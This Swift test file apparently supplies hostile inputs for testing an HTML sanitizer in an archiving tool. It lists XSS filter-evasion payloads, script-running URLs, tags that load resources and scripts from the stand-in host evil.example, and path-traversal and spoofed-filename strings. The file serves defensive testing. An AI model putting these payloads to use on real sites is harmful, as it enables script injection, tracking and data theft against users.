import ArchiverCore

/// Texts that try to run a script or to make a request from a page that contains them.
enum HostileVectors {
  /// The available suites of vectors shared by several projects, with their names.
  static func shared() throws -> [(name: String, vectors: [String])] {
    struct Entry: Decodable {
      let payload: String
    }
    var suites: [(String, [String])] = []
    if let data = SharedFixtures.contents("security/xss-filter-evasion.json") {
      let entries = try JSONDecoder().decode([Entry].self, from: data)
      suites.append(("xss-filter-evasion", entries.map(\.payload)))
    }
    if let data = SharedFixtures.contents("security/blns.json") {
      suites.append(("blns", try JSONDecoder().decode([String].self, from: data)))
    }
    return suites
  }

  /// Parser differentials: text for one parser is an element for another.
  static let mutation = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><title><style><![CDATA[</title></svg><img src=x onerror=alert(1)>]]></style>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea/><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
    "<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>",
    "<iframe><textarea></iframe><img src=\"\" onerror=\"alert(1)\">",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><?x ><img src=x onerror=alert(1)>?>",
    "<table><caption><svg><style></caption></svg><img src=x onerror=alert(1)></style></table>",
    "<plaintext><img src=x onerror=alert(1)>", "<title></title><img src=x onerror=alert(1)>",
    "<style></style/><img src=x onerror=alert(1)>", "<img src=x\u{0}onerror=alert(1)>",
    "<img/src=\"x\"/onerror=\"alert(1)\">", "<img src='x'onerror='alert(1)'>",
    "<<img src=x onerror=alert(1)>",
  ]

  /// URLs that run scripts.
  static let addresses = [
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>", "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"javascript&NewLine;:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://example.org/x\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<frameset onload=alert(1)><frame src=\"javascript:alert(1)\"></frameset>",
    "<base href=\"javascript:/a/-alert(1)///////\"><a href=\"../lol/safari.html\">x</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  ]

  /// Elements and rules that make requests.
  static let requests = [
    "<link rel=stylesheet href=\"https://evil.example/a.css\">",
    "<style>@import 'https://evil.example/b.css';</style>",
    "<link rel=dns-prefetch href=\"//evil.example\"><link rel=preconnect href=\"//evil.example\">",
    "<p style=\"background:url(https://evil.example/c.png)\">x</p>",
    "<p style=\"background-image:image-set('https://evil.example/d.png' 1x)\">x</p>",
    "<style>p[title^=a]{background:url(//evil.example/e)}</style>",
    "<video poster=\"https://evil.example/f.png\" src=\"https://evil.example/g.mp4\" autoplay></video>",
    "<audio src=\"https://evil.example/h.mp3\" autoplay></audio>",
    "<input type=image src=\"https://evil.example/i.png\">",
    "<table background=\"https://evil.example/j.png\"><tr><td background=\"//evil.example/k.png\">x</table>",
    "<body background=\"https://evil.example/l.png\">",
    "<a href=\"#\" ping=\"https://evil.example/m\">x</a>",
    "<svg><image href=\"https://evil.example/n.png\"/></svg>",
    "<svg><filter><feImage href=\"https://evil.example/o.png\"/></filter></svg>",
    "<picture><source srcset=\"https://evil.example/p.png 1x\"><img></picture>",
    "<object data=\"https://evil.example/q\"></object><embed src=\"https://evil.example/r\">",
    "<iframe src=\"https://evil.example/s\"></iframe>",
    "<portal src=\"https://evil.example/t\"></portal>",
    "<track src=\"https://evil.example/u.vtt\">",
    "<script src=\"https://evil.example/v.js\"></script>",
    "<script type=module>import 'https://evil.example/w.js'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/x\"]}]}</script>",
    "<q cite=\"https://evil.example/y\">x</q>", "<img src=\"file:///etc/passwd\">",
  ]

  /// Ways out of attributes, scripts, lists and names.
  static let escapes = [
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>",
    "]]><script>alert(1)</script>",
    "\u{2028}alert(1)//", "\\\"});alert(1);//", "\\';alert(1);//", "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "</style><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)", "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover=alert(1) '",
    "__proto__", "constructor", "<a id=document><a id=document name=body>",
    "<form id=app><input name=children></form>",
    "<img name=currentScript><img name=cookie>", "../../../../etc/passwd", "..\\..\\x", "CON",
    "a/b\\c:d*e?f\"g<h>i|j",
    "\u{202E}gpj.exe", "\u{FEFF}<script>alert(1)</script>", "javascript:alert(1)",
    "#\"><svg/onload=alert(1)>",
  ]

  static let own = mutation + addresses + requests + escapes + allowed + modern + styles
}

/// Test data that is shared by several projects and not part of this one.
enum SharedFixtures {
  /// Returns a file of the folder that `ARCHIVER_FIXTURES` names, else of `shared/fixtures` beside
  /// the project; `nil` when it is not there.
  static func contents(_ path: String) -> Data? {
    folders.lazy.compactMap { FileManager.default.contents(atPath: "\($0)/\(path)") }.first
  }

  /// Returns the names of what is in a folder there, in order; empty when it is not there.
  static func names(_ path: String) -> [String] {
    folders.lazy.compactMap {
      try? FileManager.default.contentsOfDirectory(atPath: "\($0)/\(path)")
    }.first?.sorted() ?? []
  }

  private static var folders: [String] {
    var folders: [String] = []
    if let named = ProcessInfo.processInfo.environment["ARCHIVER_FIXTURES"] {
      folders.append(named)
    }
    var parts = #filePath.split(separator: "/")
    while let last = parts.popLast(), last != "Tests" {}
    folders.append("/" + parts.dropLast().joined(separator: "/") + "/shared/fixtures")
    return folders
  }
}
